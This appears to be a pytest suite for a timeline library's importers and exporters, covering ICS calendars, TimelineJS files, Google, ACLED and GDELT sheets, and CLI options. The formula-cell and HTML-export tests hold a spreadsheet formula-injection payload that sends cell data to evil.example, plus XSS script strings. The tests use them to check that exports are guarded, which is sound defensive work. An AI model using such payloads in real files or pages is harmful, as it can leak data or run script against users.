"""Other people's calendars, timelines and sheets, as they write them: what comes in, what is
skipped (with its line and why), and the options that decide (--strict, --keep-cancelled,
--since/--until, --max-occurrences, --map, --dayfirst/--monthfirst)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import timeline
from timeline.cli import main


def calendar(*components: str, head: str = "") -> str:
    body = "".join(c.strip() + "\n" for c in components)
    return f"BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:x\n{head}{body}END:VCALENDAR\n"


def vevent(uid: str, *lines: str) -> str:
    return "\n".join(["BEGIN:VEVENT", f"UID:{uid}", *lines, "END:VEVENT"])


def one_event(title: str, **fields: str) -> timeline.Timeline:
    """A timeline of one valid event titled ``title`` (JSON, so that any text can be in it)."""
    event = {"id": "x", "title": title, "kind": "other", "timezone": "UTC", "start": "2025"}
    event |= {"sources": [{"url": "https://a.example/"}], **fields}
    return timeline.loads(json.dumps({"events": [event]}), format="json")


def warnings(events: timeline.Timeline, code: str = "skipped") -> list[str]:
    return [str(p) for p in events.report.warnings if p.code == code]


# -- calendars ------------------------------------------------------------------------------


def test_a_repeated_dtstart_is_reported_not_crashed_on() -> None:
    text = calendar(
        vevent("a", "DTSTART:20250101T100000Z", "DTSTART:20250101T120000Z", "SUMMARY:Twice"),
        vevent("b", "DTSTART:20250102T100000Z", "SUMMARY:Once"),
    )
    events = timeline.import_events(text, format="ics")
    assert [(e.title, str(e.start)) for e in events] == [
        ("Twice", "2025-01-01T10:00:00+00:00"),
        ("Once", "2025-01-02T10:00:00+00:00"),
    ]
    assert warnings(events, "ics-value") == [
        "<string>:6:1: warning: DTSTART is given 2 times (lines 6, 7) with different values; the "
        "first is read"
    ]


def test_todos_journals_and_cancelled_events_are_counted_with_their_lines() -> None:
    text = calendar(
        vevent("a", "DTSTART:20250101T100000Z", "SUMMARY:Kept"),
        "BEGIN:VTODO\nUID:t\nSUMMARY:Buy milk\nEND:VTODO",
        "BEGIN:VJOURNAL\nUID:j\nSUMMARY:Notes\nEND:VJOURNAL",
        vevent("c", "DTSTART:20250103T100000Z", "SUMMARY:Called off", "STATUS:CANCELLED"),
    )
    events = timeline.import_events(text, format="ics")
    assert [e.title for e in events] == ["Kept"]
    assert warnings(events) == [
        "<string>: warning: skipped 3 of 4 components; each is listed with why (--strict makes "
        "this an error)",
        "<string>:9:1: warning: VTODO skipped: a to-do, not an event; only VEVENTs are imported",
        "<string>:13:1: warning: VJOURNAL skipped: a journal entry, not an event; only VEVENTs "
        "are imported",
        "<string>:17:1: warning: VEVENT skipped: it is cancelled (STATUS:CANCELLED); pass "
        "--keep-cancelled to import it",
    ]
    kept = timeline.import_events(text, format="ics", keep_cancelled=True)
    assert kept["called-off"].tags == ("cancelled",)
    with pytest.raises(timeline.InvalidTimeline) as caught:
        timeline.import_events(text, format="ics", strict=True)
    assert [p.line for p in caught.value.report.errors] == [None, 9, 13, 17]


def test_a_calendar_that_is_never_closed_is_read_to_the_end_and_said_so() -> None:
    first = calendar(vevent("a", "DTSTART;VALUE=DATE:20250101", "SUMMARY:First"))
    second = "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:x\n" + vevent(
        "b", "DTSTART;VALUE=DATE:20250102", "SUMMARY:Second"
    )
    events = timeline.import_events(first + second + "\n", format="ics")
    assert [e.title for e in events] == ["First", "Second"]
    assert (
        "<string>:10:1: warning: VCALENDAR begun here is never closed (no END:VCALENDAR); read to "
        "the end of the file"
    ) in warnings(events, "ics-syntax")


def test_one_bad_line_costs_that_line_only() -> None:
    text = calendar(
        vevent("a", "DTSTART:20250101T100000Z", "SUMMARY:Fine"),
        "X",
        vevent("b", "DTSTART:20250102T100000Z", "SUMMARY:Also fine"),
    )
    events = timeline.import_events(text, format="ics")
    assert [e.title for e in events] == ["Fine", "Also fine"]
    assert warnings(events, "ics-syntax") == [
        "<string>:9:1: warning: cannot read this line (Content line could not be parsed into "
        "parts: 'X': Invalid content line); left out"
    ]


def test_properties_we_do_not_read_never_refuse_an_event() -> None:
    text = calendar(
        vevent(
            "a",
            "DTSTART;VALUE=DATE:20141210",
            "RRULE:FREQ=YEARLY;COUNT=2",
            "RDATE:20131210Z",
            "CREATED:00000101T000000Z",
            "EXDATE:",
            "SUMMARY:Birthday",
        ),
        vevent("b", "DTSTART;VALUE=DATE:20250101", "DESCRIPTION:No summary here, only text"),
    )
    events = timeline.import_events(text, format="ics")
    assert [e.title for e in events if e.part_of is None] == [
        "Birthday",
        "No summary here, only text",
    ]
    assert warnings(events, "no-title") == [
        "<string>:13:1: warning: no SUMMARY; the title is made from the event: 'No summary "
        "here, only text'"
    ]


MEETINGS = calendar(
    vevent(
        "series@example.org",
        "DTSTART;TZID=Europe/Berlin:20250106T100000",
        "DTEND;TZID=Europe/Berlin:20250106T110000",
        "RRULE:FREQ=WEEKLY;COUNT=12",
        "EXDATE;TZID=Europe/Berlin:20250120T100000",
        "SUMMARY:Lecture",
    ),
    vevent(
        "series@example.org",
        "RECURRENCE-ID;TZID=Europe/Berlin:20250113T100000",
        "DTSTART;TZID=Europe/Berlin:20250114T140000",
        "DTEND;TZID=Europe/Berlin:20250114T150000",
        "SUMMARY:Lecture (moved)",
    ),
)


def test_repeating_events_become_one_event_per_occurrence_part_of_the_series() -> None:
    events = timeline.import_events(MEETINGS, format="ics")
    series = events["lecture"]
    occurrences = [e for e in events if e.part_of == "lecture"]
    # 12 weeks, less the one excluded; the moved one appears once, where it was moved to.
    assert len(occurrences) == 11
    assert [str(e.start)[:16] for e in occurrences[:3]] == [
        "2025-01-06T10:00",
        "2025-01-14T14:00",
        "2025-01-27T10:00",
    ]
    assert occurrences[1].title == "Lecture (moved)"
    assert [e.id for e in occurrences[:2]] == ["lecture-20250106t1000", "lecture-20250114t1400"]
    assert (str(series.start)[:16], str(series.end)[:16]) == (
        "2025-01-06T10:00",
        "2025-03-24T11:00",
    )
    assert not warnings(events)


def test_expansion_keeps_to_a_window_or_a_cap_and_says_what_was_left_out() -> None:
    window = timeline.import_events(
        MEETINGS,
        format="ics",
        since=__import__("datetime").date(2025, 2, 1),
        until=__import__("datetime").date(2025, 2, 28),
    )
    assert [str(e.start)[:10] for e in window if e.part_of] == [
        "2025-02-03",
        "2025-02-10",
        "2025-02-17",
        "2025-02-24",
    ]
    # The moved occurrence is outside the window: its component is reported as skipped.
    assert "the occurrence it changes is not among those imported" in " ".join(warnings(window))
    capped = timeline.import_events(MEETINGS, format="ics", max_occurrences=3)
    assert len([e for e in capped if e.part_of]) == 3
    assert warnings(capped, "repeats-cut") == [
        "<string>:4:1: warning: 'Lecture' repeats more than 3 times; the first 3 are imported "
        "(to 2025-01-27) and more left out; pass --since/--until (or --max-occurrences N) to "
        "choose which are imported"
    ]


def test_endless_repeats_stop_a_year_after_the_calendar_s_last_date() -> None:
    text = calendar(
        vevent("y", "DTSTART;VALUE=DATE:20200301", "RRULE:FREQ=YEARLY", "SUMMARY:Anniversary"),
        vevent("z", "DTSTART;VALUE=DATE:20220610", "SUMMARY:Last dated"),
    )
    events = timeline.import_events(text, format="ics")
    assert [str(e.start) for e in events if e.part_of] == [
        "2020-03-01",
        "2021-03-01",
        "2022-03-01",
        "2023-03-01",
    ]
    assert warnings(events, "repeats-cut") == [
        "<string>:4:1: warning: 1 event repeats without end; occurrences up to 2023-06-11 (a "
        "year after the last date the calendar gives) are imported: pass --until DATE to choose"
    ]


EXCHANGE = calendar(
    vevent(
        "x",
        "DTSTART;TZID=Customized Time Zone:20240426T140000",
        "DTEND;TZID=Customized Time Zone:20240426T150000",
        "SUMMARY:Board meeting",
    ),
    vevent("w", "DTSTART;TZID=W. Europe Standard Time:20240427T090000", "SUMMARY:Windows"),
    vevent(
        "o",
        'DTSTART;TZID="(UTC-05:00) Eastern Time (US & Canada)":20240428T090000',
        "SUMMARY:Outlook",
    ),
    head="""BEGIN:VTIMEZONE
TZID:Customized Time Zone
BEGIN:STANDARD
DTSTART:16011028T030000
RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=10
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010325T020000
RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=3
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
END:DAYLIGHT
END:VTIMEZONE
""",
)


def test_outlook_and_exchange_zones_are_mapped_and_the_rule_is_reported() -> None:
    events = timeline.import_events(EXCHANGE, format="ics")
    board, windows, outlook = events["board-meeting"], events["windows"], events["outlook"]
    assert str(board.start) == "2024-04-26T14:00:00+02:00"
    assert board.timezone.startswith("Europe/") or board.timezone.startswith("Africa/")
    assert windows.timezone == "Europe/Berlin"
    assert (outlook.timezone, str(outlook.start)) == (
        "America/New_York",
        "2024-04-28T09:00:00-04:00",
    )
    messages = warnings(events, "assumed-zone")
    assert messages[0].startswith(
        "<string>:4:1: warning: TZID 'Customized Time Zone' is defined in the file; read as "
    )
    assert messages[0].endswith(", which has the same UTC offsets")
    assert messages[1] == (
        "<string>:32:1: warning: TZID '(UTC-05:00) Eastern Time (US & Canada)' is read as "
        "America/New_York: Windows's display name of 'Eastern Standard Time', with the "
        "standard offset it gives"
    )


def test_a_zone_one_file_defines_never_leaks_into_another() -> None:
    """icalendar keeps VTIMEZONEs by TZID across files: an Exchange export's "Customized Time
    Zone" (New York's rules here) must not place the next file's (Berlin's)."""
    american = EXCHANGE.replace("+0200", "-0400").replace("+0100", "-0500")
    first = timeline.import_events(american, format="ics")["board-meeting"]
    assert first.start.instant == dt.datetime(2024, 4, 26, 18, tzinfo=dt.UTC)  # 14:00 at -04:00
    board = timeline.import_events(EXCHANGE, format="ics")["board-meeting"]
    assert board.start.instant == dt.datetime(2024, 4, 26, 12, tzinfo=dt.UTC)  # 14:00 at +02:00


def test_a_zone_no_iana_zone_matches_keeps_the_instants_the_block_gives() -> None:
    text = calendar(
        vevent("m", "DTSTART;TZID=Mars Time:20240426T140000", "SUMMARY:On Mars"),
        head="BEGIN:VTIMEZONE\nTZID:Mars Time\nBEGIN:STANDARD\nDTSTART:16010101T000000\n"
        "TZOFFSETFROM:+0537\nTZOFFSETTO:+0537\nEND:STANDARD\nEND:VTIMEZONE\n",
    )
    events = timeline.import_events(text, format="ics")
    (event,) = events
    assert (event.timezone, str(event.start)) == ("UTC", "2024-04-26T08:23:00+00:00")
    assert "read as UTC instants by the offsets it gives" in warnings(events, "assumed-zone")[0]


def test_large_icalendar_text_is_not_read_a_character_at_a_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """icalendar parses each content line a character at a time in Python (a minute for a
    50 MB DESCRIPTION): long values are kept aside while it parses the rest."""
    import icalendar.parser

    longest = 0
    raw_parts = icalendar.parser.Contentline.raw_parts

    def measured(self: str) -> object:
        nonlocal longest
        longest = max(longest, len(self))
        return raw_parts(self)

    monkeypatch.setattr(icalendar.parser.Contentline, "raw_parts", measured)
    body = "\n ".join(["word, \\, and\\nline " * 3] * 40_000)
    text = calendar(
        vevent("big", "DTSTART;VALUE=DATE:20250101", "SUMMARY:Big", f"DESCRIPTION:{body}")
    )
    (event,) = timeline.import_events(text, format="ics")
    assert event.summary is not None
    assert len(event.summary) > 2_000_000
    assert event.summary.startswith("word, , and\nline word")
    assert longest < 100_000


def test_nested_vevents_each_become_an_event_with_their_line() -> None:
    count = 3_000
    text = "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:x\n"
    text += "BEGIN:VEVENT\nDTSTART;VALUE=DATE:20250101\n" * count + "END:VEVENT\n" * count
    text += "END:VCALENDAR\n"
    events = timeline.import_events(text, format="ics")
    assert len(events) == count
    assert len({e.id for e in events}) == count
    assert warnings(events, "ics-syntax") == [
        f"<string>:6:1: warning: VEVENT inside another component (and {count - 2:,} more like "
        "it): each read as a component of its own"
    ]


def test_ics_export_writes_no_raw_control_characters() -> None:
    events = one_event("bell \a vt \v ff \f esc \x1b fs \x1c gs \x1d rs \x1e end")
    written, notes = timeline.export_with_notes(events, "ics")
    assert not any(ch in written for ch in "\a\v\f\x1b\x1c\x1d\x1e")
    assert (
        "SUMMARY:bell \ufffd vt \ufffd ff \ufffd esc \ufffd fs \ufffd gs \ufffd rs \ufffd end"
        in written
    )
    assert "ics: 7 control characters written as U+FFFD (RFC 5545 forbids them in text)" in notes


# -- TimelineJS -----------------------------------------------------------------------------


def test_timelinejs2_files_import() -> None:
    text = json.dumps(
        {
            "timeline": {
                "headline": "Whitney Houston",
                "type": "default",
                "text": "<p>A life</p>",
                "startDate": "1963",
                "date": [
                    {
                        "startDate": "1963,8,9",
                        "headline": "Born",
                        "text": "<p>Newark</p>",
                        "asset": {
                            "media": "//example.org/a.jpg",
                            "credit": "AP",
                            "caption": "Baby",
                        },
                    },
                    {
                        "startDate": "1985,2,14",
                        "endDate": "1985,3,1",
                        "headline": "Debut",
                        "tag": "Music",
                    },
                    {"headline": "No date"},
                ],
            }
        },
        indent=1,
    )
    events = timeline.import_events(text, format="timelinejs")
    assert events.title == "Whitney Houston"
    born, debut = events
    assert (str(born.start), born.sources[0].url, born.sources[0].publisher) == (
        "1963-08-09",
        "https://example.org/a.jpg",
        "AP",
    )
    assert (str(debut.start), str(debut.end), debut.tags) == (
        "1985-02-14",
        "1985-03-01",
        ("music",),
    )
    assert warnings(events)[1] == (
        "<string>:24:4: warning: timeline.date[2].startDate: slide skipped: it has no startDate "
        "with a year"
    )


def test_timelinejs_export_shows_html_in_titles_as_text() -> None:
    events = one_event("<img src=x onerror=alert(1)> & co", summary="</p><script>x()</script>")
    slide = json.loads(timeline.export(events, "timelinejs"))["events"][0]
    assert slide["text"] == {
        "headline": "&lt;img src=x onerror=alert(1)&gt; &amp; co",
        "text": "&lt;/p&gt;&lt;script&gt;x()&lt;/script&gt;",
    }
    again = timeline.import_events(timeline.export(events, "timelinejs"), format="timelinejs")
    assert (again["x"].title, again["x"].summary) == (events["x"].title, events["x"].summary)


def test_jsonld_export_cannot_end_the_script_element_it_sits_in() -> None:
    events = one_event("</script><script>alert(1)</script><!--")
    written = timeline.export(events, "jsonld")
    assert "<" not in written
    assert ">" not in written
    assert json.loads(written)["@graph"][0]["name"] == events["x"].title


# -- sheets ---------------------------------------------------------------------------------

TIMELINEJS_SHEET = (
    "Year,Month,Day,Time,End Year,End Month,End Day,End Time,Display Date,Headline,Text,Media,"
    "Media Credit,Media Caption,Media Thumbnail,Type,Group,Background\n"
    ",,,,,,,,,My timeline,<p>About it</p>,,,,,title,,\n"
    "1815,12,10,,1852,11,27,,,Ada Lovelace,<p>First program</p>,https://example.org/ada.jpg,"
    "Wikimedia,Portrait,,,Pioneers,\n"
    "1843,,,,,,,,,Notes published,,,,,,,,#fff\n"
    "1946,2,15,10:30,,,,,,ENIAC shown,,,,,,,,\n"
    ",,,,,,,,,No year,,,,,,,,\n"
)


def test_timelinejs_spreadsheet_template_imports() -> None:
    events = timeline.import_events(TIMELINEJS_SHEET, format="csv", timezone="America/New_York")
    assert (events.title, events.description) == ("My timeline", "<p>About it</p>")
    assert [(e.title, str(e.start)) for e in events] == [
        ("Ada Lovelace", "1815-12-10"),
        ("Notes published", "1843"),
        ("ENIAC shown", "1946-02-15T10:30:00-05:00"),
    ]
    ada = events["ada-lovelace"]
    assert (str(ada.end), ada.tags, ada.sources[0].publisher) == (
        "1852-11-27",
        ("pioneers",),
        "Wikimedia",
    )
    assert warnings(events) == [
        "<string>: warning: skipped 1 of 5 rows; each is listed with why (--strict makes this an "
        "error)",
        "<string>:6:1: warning: row skipped: it has no Year (TimelineJS skips such rows too)",
    ]


def test_timelinejs_spreadsheet_template_exports_and_reads_back() -> None:
    events = timeline.import_events(TIMELINEJS_SHEET, format="csv", timezone="UTC")
    written = timeline.export(events, "timelinejs-csv")
    assert written.splitlines()[0] == TIMELINEJS_SHEET.splitlines()[0]
    again = timeline.import_events(written, format="csv", timezone="UTC")
    assert [(e.id, e.title, str(e.start), e.end and str(e.end), e.tags) for e in again] == [
        (e.id, e.title, str(e.start), e.end and str(e.end), e.tags) for e in events
    ]
    assert again.title == events.title


GOOGLE = (
    "Subject,Start Date,Start Time,End Date,End Time,All Day Event,Description,Location,Private\n"
    "Final exam,05/30/2020,10:00 AM,05/30/2020,1:00 PM,False,50 questions,Hall 614,True\n"
    "Spring break,03/02/2020,,03/06/2020,,True,,,False\n"
)


def test_google_calendar_csv_imports() -> None:
    events = timeline.import_events(GOOGLE, format="csv", timezone="America/New_York")
    assert [(e.title, str(e.start), str(e.end)) for e in events] == [
        ("Spring break", "2020-03-02", "2020-03-06"),
        ("Final exam", "2020-05-30T10:00:00-04:00", "2020-05-30T13:00:00-04:00"),
    ]
    # 05/30/2020 shows the column is month first: nothing was left to a default.
    assert warnings(events, "ambiguous-date") == []


def test_google_calendar_dates_that_show_no_order_are_read_as_google_writes_them() -> None:
    sheet = GOOGLE.splitlines()[0] + "\nSpring break,03/02/2020,,03/06/2020,,True,,,False\n"
    events = timeline.import_events(sheet, format="csv")
    assert str(events["spring-break"].start) == "2020-03-02"
    assert warnings(events, "ambiguous-date") == [
        "<string>:1:1: warning: dates such as 05/03/2020 are read month first, as Google "
        "Calendar's CSV layout writes them: pass --dayfirst if these are day first"
    ]
    day_first = timeline.import_events(sheet, format="csv", day_first=True)
    assert str(day_first["spring-break"].start) == "2020-02-03"


ACLED = (
    "event_id_cnty,event_date,year,event_type,sub_event_type,actor1,country,admin1,location,"
    "notes,fatalities\n"
    "NGA1001,15 February 2015,2015,Battles,Armed clash,Boko Haram,Nigeria,Borno,Maiduguri,"
    "Clashes near the city.,4\n"
    "NGA1002,16 February 2015,2015,Protests,Peaceful protest,Traders,Nigeria,Lagos,Lagos,"
    "Traders protested fuel prices.,0\n"
)


def test_acled_like_sheet_says_how_to_map_it_once_per_column() -> None:
    with pytest.raises(timeline.InvalidTimeline) as caught:
        timeline.import_events(ACLED, format="csv")
    report = caught.value.report
    assert [str(p) for p in report.errors] == [
        "<string>:1:1: no 'start' column; found 'event_date' — use --map start=event_date"
    ]
    assert (
        "<string>:1:1: warning: column 'event_type' is not kept — if it holds the kind, use "
        "--map kind=event_type"
    ) in [str(p) for p in report.warnings]
    assert len(report.problems) < 15  # one message per column, none per row


def test_acled_like_sheet_imports_with_a_mapping() -> None:
    events = timeline.import_events(
        ACLED, format="csv", columns="start=event_date,kind=event_type,title=notes,city=location"
    )
    assert [
        (e.title, str(e.start), e.kind.value, e.tags, e.place and e.place.country) for e in events
    ] == [
        ("Clashes near the city.", "2015-02-15", "other", ("battles",), "NG"),
        ("Traders protested fuel prices.", "2015-02-16", "other", ("protests",), "NG"),
    ]


GDELT = (
    "GLOBALEVENTID\tSQLDATE\tActor1Name\tEventCode\tActionGeo_CountryCode\tSOURCEURL\n"
    "410412347\t20150215\tUNITED STATES\t042\tJP\thttps://news.example.org/a\n"
    "410412348\t20150216\tRUSSIA\t036\tCN\thttps://news.example.org/b\n"
)


def test_gdelt_like_sheet_imports_with_a_mapping() -> None:
    with pytest.raises(timeline.InvalidTimeline) as caught:
        timeline.import_events(GDELT, format="csv")
    assert "<string>:1:1: no 'start' column; found 'SQLDATE' — use --map start=SQLDATE" in [
        str(p) for p in caught.value.report.errors
    ]
    events = timeline.import_events(
        GDELT,
        format="csv",
        columns="start=SQLDATE,title=Actor1Name,sources=SOURCEURL,id=GLOBALEVENTID",
    )
    assert [(e.id, str(e.start), e.sources[0].url) for e in events] == [
        ("410412347", "2015-02-15", "https://news.example.org/a"),
        ("410412348", "2015-02-16", "https://news.example.org/b"),
    ]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("2015-02-15 10:00:00 UTC", "2015-02-15T10:00:00+00:00"),
        ("15 February 2015", "2015-02-15"),
        ('"February 15, 2015"', "2015-02-15"),
        ("02/15/2015", "2015-02-15"),
        ("15.02.2015", "2015-02-15"),
        ("20150215", "2015-02-15"),
    ],
)
def test_spreadsheet_dates(cell: str, written: str) -> None:
    (event,) = timeline.import_events(f"title,start\nA,{cell}\n", format="csv")
    assert str(event.start) == written


def test_day_and_month_are_never_guessed() -> None:
    sheet = "title,start\nA,02/03/2015\nB,04/05/2015\n"
    with pytest.raises(timeline.InvalidTimeline) as caught:
        timeline.import_events(sheet, format="csv")
    assert [str(p) for p in caught.value.report.warnings if p.line == 2] == [
        "<string>:2:1: warning: row skipped: start: '02/03/2015' could be day/month or "
        "month/day: pass --dayfirst or --monthfirst"
    ]
    first = timeline.import_events(sheet, format="csv", day_first=True)
    assert [str(e.start) for e in first] == ["2015-03-02", "2015-05-04"]
    second = timeline.import_events(sheet, format="csv", day_first=False)
    assert [str(e.start) for e in second] == ["2015-02-03", "2015-04-05"]
    shown = timeline.import_events(sheet + "C,13/05/2015\n", format="csv")  # the column tells
    assert [str(e.start) for e in shown] == ["2015-03-02", "2015-05-04", "2015-05-13"]


def test_wide_headers_get_one_message_per_column_up_to_a_few() -> None:
    columns = 200_000
    sheet = "title,start," + ",".join(f"c{i}" for i in range(columns)) + "\nA,2025\n"
    events = timeline.import_events(sheet, format="csv")
    unknown = warnings(events, "unknown-column")
    assert len(unknown) == 21
    assert unknown[-1] == (
        f"<string>:1:1: warning: {columns - 20:,} more columns are not kept ('c20', 'c21', 'c22', …)"
    )


def test_no_false_zone_warning_on_rows_without_dates() -> None:
    sheet = "title,start,summary\nA,2025,x\n,,only a summary\n"
    events = timeline.import_events(sheet, format="csv")
    assert warnings(events, "assumed-zone") == [
        "<string>: warning: 1 event has a date but no time zone; read as whole days in UTC (pass "
        "--timezone ZONE to say where they happened)"
    ]


def test_ids_from_repeated_titles_are_not_quadratic() -> None:
    from timeline.formats.mapping import IdMaker

    class Counted(set[str]):
        probes = 0

        def __contains__(self, item: object) -> bool:
            Counted.probes += 1
            return super().__contains__(item)

    ids = IdMaker()
    ids._taken = Counted()  # counts the probes: -2, -3, … must not start over for each title
    made = [ids.make("Meeting") for _ in range(3_000)]
    assert made[:3] == ["meeting", "meeting-2", "meeting-3"]
    assert len(set(made)) == 3_000
    assert Counted.probes < 4 * 3_000


# -- formula cells --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "'=already quoted",
        "''+two quotes",
    ],
)
def test_csv_formula_injection_is_guarded_and_reads_back_exactly(title: str) -> None:
    events = one_event(title)
    written = timeline.export(events, "csv")
    row = next(r for r in csv.DictReader(io.StringIO(written)) if r["id"] == "x")
    assert row["title"] == "'" + events["x"].title
    assert timeline.import_events(written, format="csv")["x"].title == events["x"].title


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ,\"")))
def test_guarded_cells_read_back_exactly(cell: str) -> None:
    from timeline.formats.csvfile import guarded, unguarded

    assert unguarded(guarded(cell)) == cell
    assert not re.match(r"[=+\-@\t\r]", guarded(cell))


@given(st.from_regex(r"\A'{0,2}[=+\-@][ -~]{1,20}\Z"))
def test_formula_like_titles_round_trip_through_csv(title: str) -> None:
    events = one_event(title)
    again = timeline.import_events(timeline.export(events, "csv"), format="csv")
    assert again["x"].title == events["x"].title


# -- the command ----------------------------------------------------------------------------


def test_import_command_options(tmp_path: Path) -> None:
    source = tmp_path / "sheet.csv"
    source.write_text(ACLED, encoding="utf-8")
    out = tmp_path / "events.yaml"
    runner = CliRunner()
    result = runner.invoke(main, ["import", str(source), "--out", str(out)])
    assert result.exit_code == 1
    assert f"{source}:1:1: no 'start' column; found 'event_date' — use --map start=event_date" in (
        result.stderr.splitlines()
    )
    args = ["import", str(source), "--out", str(out), "--map", "start=event_date,title=notes"]
    result = runner.invoke(main, args)
    assert result.exit_code == 0, result.output
    assert len(timeline.load(out)) == 2
    calendar_file = tmp_path / "c.ics"
    calendar_file.write_text(
        calendar(
            vevent("a", "DTSTART;VALUE=DATE:20250101", "SUMMARY:A"), "BEGIN:VTODO\nUID:t\nEND:VTODO"
        ),
        encoding="utf-8",
    )
    result = runner.invoke(main, ["import", str(calendar_file), "-o", "-", "--strict"])
    assert result.exit_code == 1
    assert (
        f"{calendar_file}:9:1: VTODO skipped: a to-do, not an event; only VEVENTs are imported"
        in (result.stderr.splitlines())
    )


def test_import_command_window_and_day_order(tmp_path: Path) -> None:
    runner = CliRunner()
    lectures = tmp_path / "lectures.ics"
    lectures.write_text(MEETINGS, encoding="utf-8")
    out = tmp_path / "events.json"
    args = [
        "import",
        str(lectures),
        "-o",
        str(out),
        "--since",
        "2025-02-01",
        "--until",
        "2025-02-28",
    ]
    result = runner.invoke(main, args)
    assert result.exit_code == 0, result.output
    assert sum(1 for e in timeline.load(out) if e.part_of) == 4
    result = runner.invoke(main, ["import", str(lectures), "-o", "-", "--max-occurrences", "0"])
    assert result.exit_code == 2  # a usage error, as click gives
    sheet = tmp_path / "dates.csv"
    sheet.write_text("title,start\nA,02/03/2015\n", encoding="utf-8")
    result = runner.invoke(main, ["import", str(sheet), "-o", str(out), "--force", "--dayfirst"])
    assert result.exit_code == 0, result.output
    assert [str(e.start) for e in timeline.load(out)] == ["2015-03-02"]
